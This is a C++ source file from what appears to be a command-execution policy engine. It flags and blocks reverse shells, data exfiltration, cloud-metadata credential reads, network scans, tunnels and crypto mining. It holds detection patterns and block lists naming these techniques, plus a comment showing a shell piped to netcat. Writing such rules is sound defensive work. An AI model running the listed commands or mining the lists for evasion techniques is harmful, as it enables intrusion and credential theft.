// reverse_shell, data_exfiltration, network_recon, crypto_mining and network_tools.
#include <algorithm>
#include <cctype>

#include "execpolicy/rules.h"

namespace clawtools::execpolicy {

using namespace std::string_view_literals;
namespace {

bool Contains(const std::string& s, std::string_view part) {
  return s.find(part) != std::string::npos;
}

std::string Lower(std::string s) {
  std::transform(s.begin(), s.end(), s.begin(), [](unsigned char c) { return std::tolower(c); });
  return s;
}

constexpr std::string_view kReverseShell = "reverse_shell";

void DevTcp(const RuleInput& in, Findings& out) {
  constexpr std::string_view g = kReverseShell;
  const Invocation& inv = in.inv;
  for (const Field& f : inv.argv) {
    if (Contains(f.text, "/dev/") &&
        (Contains(f.text, "/dev/tcp/") || Contains(f.text, "/dev/udp/"))) {
      return out.Deny(g, "dev_tcp", "opens a network connection through /dev/tcp",
                      inv.Canonical(true));
    }
  }
  for (const RedirectInfo& r : inv.redirects) {
    if (Contains(r.target.text, "/dev/tcp/") || Contains(r.target.text, "/dev/udp/")) {
      return out.Deny(g, "dev_tcp", "wires the command to a network connection through /dev/tcp",
                      inv.Canonical(true));
    }
  }
}

void SocketTools(const RuleInput& in, Findings& out) {
  constexpr std::string_view g = kReverseShell;
  const Invocation& inv = in.inv;
  const std::string_view p = in.program;
  const std::string& m = inv.Canonical();
  if (p != "socat" && p != "openssl") {
    for (size_t i = 1; i < inv.argv.size(); ++i) {
      const std::string& w = inv.Word(i);
      const bool exec_flag =
          w == "--exec" || w == "--sh-exec" || w == "--lua-exec" || w.starts_with("--exec=") ||
          w.starts_with("--sh-exec=") ||
          (w.size() > 1 && w[0] == '-' && w[1] != '-' && (Contains(w, "e") || Contains(w, "c")));
      if (exec_flag)
        return out.Deny(g, "nc_exec", std::string(p) + " " + w + " hands a program to the network",
                        m);
    }
  }
  if (p == "socat") {
    for (size_t i = 1; i < inv.argv.size(); ++i) {
      const std::string w = Lower(inv.Word(i));
      if (w.starts_with("exec:") || w.starts_with("system:") || Contains(w, "pty")) {
        return out.Deny(g, "socat_exec", "socat connects a program to the network", m);
      }
    }
  }
  // `sh -i 2>&1 | nc host 4444`: a shell's output fed to a socket.
  const std::string& origin = inv.in.origin;
  for (std::string_view shell : std::initializer_list<std::string_view>{
           "sh -i"sv, "bash -i"sv, "zsh -i"sv, "/bin/sh"sv, "/bin/bash"sv}) {
    if (Contains(origin, shell))
      return out.Deny(g, "shell_to_socket", "a shell is wired to " + std::string(p),
                      origin + " | " + m);
  }
  if (p == "socat") return out.Ask(g, "socat", "socat relays arbitrary connections", m);
}

constexpr std::string_view kExfiltration = "data_exfiltration";

void CloudMetadata(const RuleInput& in, Findings& out) {
  for (const Field& f : in.inv.argv) {
    for (std::string_view host : std::initializer_list<std::string_view>{
             "169.254.169.254"sv, "metadata.google.internal"sv, "100.100.100.200"sv,
             "fd00:ec2::254"sv, "169.254.170.2"sv, "metadata.azure"sv}) {
      if (Contains(f.text, host))
        return out.Deny(kExfiltration, "cloud_metadata",
                        "reads the cloud metadata service (credentials)", in.inv.Canonical());
    }
  }
}

void Uploads(const RuleInput& in, Findings& out) {
  constexpr std::string_view g = kExfiltration;
  const Invocation& inv = in.inv;
  const std::string_view p = in.program;
  const std::string& m = inv.Canonical();
  if (p == "curl") {
    for (size_t i = 1; i < inv.argv.size(); ++i) {
      const std::string& w = inv.Word(i);
      const bool upload =
          w.starts_with("--data") || w.starts_with("--form") || w == "--upload-file" ||
          w == "--json" || w == "-T" || w == "-F" || w == "-d" ||
          ((w == "-X" || w == "--request") && i + 1 < inv.argv.size() &&
           (inv.Word(i + 1) == "POST" || inv.Word(i + 1) == "PUT" || inv.Word(i + 1) == "PATCH")) ||
          w.starts_with("-XP") ||
          (w.size() > 2 && w[0] == '-' && w[1] != '-' &&
           (w.back() == 'd' || w.back() == 'F' || w.back() == 'T'));
      if (upload) return out.Ask(g, "upload", "curl sends local data to a server", m);
    }
  }
  if (p == "wget") {
    for (const Field& f : inv.argv) {
      if (f.text.starts_with("--post-") || f.text.starts_with("--body-") ||
          f.text.starts_with("--method=P") || f.text == "--method") {
        return out.Ask(g, "upload", "wget sends local data to a server", m);
      }
    }
  }
  if (p == "nslookup" || p == "dig" || p == "host" || p == "drill") {
    for (size_t i = 1; i < inv.argv.size(); ++i) {
      if (inv.argv[i].dynamic)
        return out.Deny(g, "dns_exfil", std::string(p) + " looks up a name computed at run time",
                        m);
    }
  }
  if ((p == "nc" || p == "ncat" || p == "netcat") && inv.in.present && !inv.in.text) {
    return out.Ask(g, "socket_upload", std::string(p) + " sends data to the network",
                   inv.Canonical(true));
  }
}

void Recon(const RuleInput& in, Findings& out) {
  const Invocation& inv = in.inv;
  const std::string_view p = in.program;
  const std::string& m = inv.Canonical();
  for (std::string_view s : std::initializer_list<std::string_view>{
           "nmap"sv, "masscan"sv, "zmap"sv, "rustscan"sv, "unicornscan"sv, "hping3"sv, "arp-scan"sv,
           "nikto"sv, "zgrab"sv, "naabu"sv}) {
    if (p == s) return out.Deny("network_recon", "scanner", std::string(p) + " scans networks", m);
  }
  for (std::string_view s :
       {"chisel", "frpc", "frps", "ngrok", "cloudflared", "bore", "lt", "localtunnel", "sshuttle",
        "ligolo", "inlets", "pagekite", "iodine", "dnscat"}) {
    if (p == s)
      return out.Deny("network_recon", "tunnel",
                      std::string(p) + " opens a tunnel into or out of the network", m);
  }
  if (p == "ssh" || p == "scp" || p == "sftp" || p == "autossh") {
    for (size_t i = 1; i < inv.argv.size(); ++i) {
      const std::string& w = inv.Word(i);
      if (w == "-R" || w == "-D" ||
          (w.starts_with("-") && !w.starts_with("--") && (Contains(w, "R") || Contains(w, "D")) &&
           w.size() <= 4 && w.find_first_not_of("-NfTRDqvC") == std::string::npos)) {
        return out.Deny("network_recon", "ssh_tunnel", "ssh forwards ports (a tunnel)", m);
      }
    }
    return out.Ask("network_recon", "remote_login", std::string(p) + " connects to a remote host",
                   m);
  }
}

// The table lists the miners' names.
void Miner(const RuleInput& in, Findings& out) {
  out.Deny("crypto_mining", "miner", std::string(in.program) + " mines cryptocurrency",
           in.inv.Canonical());
}

void MiningPool(const RuleInput& in, Findings& out) {
  const Invocation& inv = in.inv;
  for (const Field& f : inv.argv) {
    if (!Contains(f.text, "tratum") && !Contains(f.text, "TRATUM")) continue;
    if (Contains(Lower(f.text), "stratum+tcp://") || Contains(Lower(f.text), "stratum+ssl://") ||
        Contains(Lower(f.text), "stratum2+tcp://")) {
      return out.Deny("crypto_mining", "pool", "connects to a mining pool", inv.Canonical());
    }
  }
}

void NetworkTools(const RuleInput& in, Findings& out) {
  const Invocation& inv = in.inv;
  const std::string_view p = in.program;
  if (!out.GroupEnabled("network_tools")) return;
  for (std::string_view s : std::initializer_list<std::string_view>{
           "curl"sv, "wget"sv, "ssh"sv, "scp"sv, "sftp"sv, "nc"sv, "ncat"sv, "netcat"sv, "telnet"sv,
           "ftp"sv, "aria2c"sv, "http"sv, "xh"sv, "rsync"sv, "socat"sv}) {
    if (p == s)
      return out.Ask("network_tools", "client", std::string(p) + " talks to the network",
                     inv.Canonical());
  }
  if (p == "git" && inv.argv.size() > 1) {
    for (std::string_view verb : std::initializer_list<std::string_view>{
             "clone"sv, "fetch"sv, "pull"sv, "push"sv, "ls-remote"sv, "submodule"sv}) {
      if (inv.Word(1) == verb)
        return out.Ask("network_tools", "git_remote",
                       "git " + inv.Word(1) + " talks to the network", inv.Canonical());
    }
  }
}

}  // namespace

std::span<const Rule> NetworkRules() {
  static constexpr Rule kRules[] = {
      {DevTcp, ""},
      {SocketTools,
       "nc ncat netcat nc.traditional nc.openbsd socat telnet openssl cryptcat pwncat"},
      {CloudMetadata, ""},
      {Uploads, "curl wget nslookup dig host drill nc ncat netcat"},
      {Recon,
       "nmap masscan zmap rustscan unicornscan hping3 arp-scan nikto zgrab naabu chisel frpc frps "
       "ngrok cloudflared bore lt localtunnel sshuttle ligolo inlets pagekite iodine dnscat ssh "
       "scp sftp autossh"},
      {Miner,
       "xmrig cpuminer minerd cgminer bfgminer ethminer nbminer t-rex phoenixminer lolminer gminer "
       "claymore xmr-stak nanominer teamredminer srbminer ccminer"},
      {MiningPool, ""},
      {NetworkTools,
       "curl wget ssh scp sftp nc ncat netcat telnet ftp aria2c http xh rsync socat git"},
  };
  return kRules;
}

}  // namespace clawtools::execpolicy
